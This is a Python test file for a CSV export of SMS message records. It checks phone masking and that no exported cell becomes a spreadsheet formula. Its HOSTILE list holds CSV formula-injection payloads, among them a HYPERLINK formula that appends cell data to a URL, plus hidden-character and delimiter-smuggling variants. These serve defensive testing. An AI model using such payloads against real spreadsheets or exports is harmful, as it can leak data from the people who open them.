"""Messages as CSV: what is in a line, and that no cell is a formula."""

import csv
import io
import re
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any, Final

import pytest
from hypothesis import given
from hypothesis import strategies as st

from segment_msg91.spreadsheet import COLUMNS, EXPORTED, csv_of, harmless

NOW: Final = datetime(2026, 1, 2, 3, 5, tzinfo=UTC)
MESSAGE: Final[dict[str, Any]] = {
    "crqid": "c1",
    "created_at": "2026-01-02T03:04:05.000Z",
    "phone": "919800000001",
    "event_type": "track",
    "event_name": "Order Shipped",
    "sender_id": "MSGIND",
    "template_id": "60b07c0ffee0000000000001",
    "parts": Decimal(2),
    "credits": Decimal("2.5"),
    "send_state": "accepted",
    "delivery_status": "ndnc",
    "failure_category": "dnd",
    "user_id": "user-1",
    "message_id": "message-1",
}
HOSTILE: Final = [
    *('=HYPERLINK("https://example.org?"&A1)', "+1+1", "-1+1", "@SUM(A1)", "=1\r\n=2", "\t=1", "\r=1", "\n=1", "\tx"),
    *("  =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\x00=1", "\u3000\uff1d1", "\uff0b1", "\uff0d1", "\uff201"),
    *("a;=1", "a;\t=1", "a\t=1", "a\n=1", 'a";"=1', "a,=1", '"=1'),
]


def cells(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def test_a_line_has_what_the_console_shows_and_the_number_masked() -> None:
    text = csv_of([MESSAGE], NOW, has_header=True)
    assert text == (
        "time,event,phone,sender,template,status,category,parts,credits,crqid\r\n"
        "2026-01-02T03:04:05.000Z,Order Shipped,91••••••••01,MSGIND,60b07c0ffee0000000000001,Not delivered,dnd,2,2.5,c1"
        "\r\n"
    )


def test_what_a_message_does_not_have_is_empty() -> None:
    text = csv_of([{"crqid": "c1", "send_state": "invalid"}], NOW, has_header=False)
    assert text == ",,,,,Not sent,,,,c1\r\n"


def test_only_the_first_page_has_the_names_of_the_columns() -> None:
    assert cells(csv_of([], NOW, has_header=True)) == [list(COLUMNS)]
    assert csv_of([], NOW, has_header=False) == ""


def test_what_is_read_of_a_message_is_all_that_is_written() -> None:
    read = {name: value for name, value in MESSAGE.items() if name in EXPORTED}
    assert csv_of([read], NOW, has_header=False) == csv_of([MESSAGE], NOW, has_header=False)


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("attribute", ["event_name", "event_type", "sender_id", "template_id", "credits", "crqid"])
def test_no_cell_is_a_formula(attribute: str, hostile: str) -> None:
    message = MESSAGE | {"event_name": None} if attribute == "event_type" else MESSAGE
    text = csv_of([message | {attribute: hostile}], NOW, has_header=False)
    assert [cell for line in cells(text) for cell in line if is_formula(cell)] == []
    assert len(cells(text)) == 1


@pytest.mark.parametrize("hostile", HOSTILE)
def test_no_cell_is_a_formula_where_lines_are_divided_at_semicolons(hostile: str) -> None:
    text = csv_of([MESSAGE | {"event_name": hostile}], NOW, has_header=False)
    assert [cell for line in re.split(r"[\r\n]+", text) for cell in re.split(r"[;\t]", line) if is_formula(cell)] == []


@given(st.text(st.sampled_from("=+-@\t\r\n ;a\u00a0\u200b'\""), max_size=8))
def test_a_harmless_cell_is_its_text_with_apostrophes_in_it(text: str) -> None:
    safe = harmless(text)
    assert not is_formula(safe)
    assert safe.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", ["", "Order Shipped", "a=b", "a - b", "2026-01-02", "91••••••••01", "'quoted'", "50%"])
def test_what_is_no_formula_is_unchanged(text: str) -> None:
    assert harmless(text) == text


@given(st.text(max_size=30))
def test_a_page_can_be_read_back(name: str) -> None:
    (line,) = cells(csv_of([MESSAGE | {"event_name": name, "event_type": ""}], NOW, has_header=False))
    assert line[1] == harmless(name)
    assert len(line) == len(COLUMNS)


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet may compute a cell: by its first character, also after some that are not seen."""
    seen = re.sub(r"^[\s\x00-\x1f\u200b\ufeff]+", "", cell)
    return cell.startswith(("\t", "\r", "\n")) or seen.startswith(
        ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    )
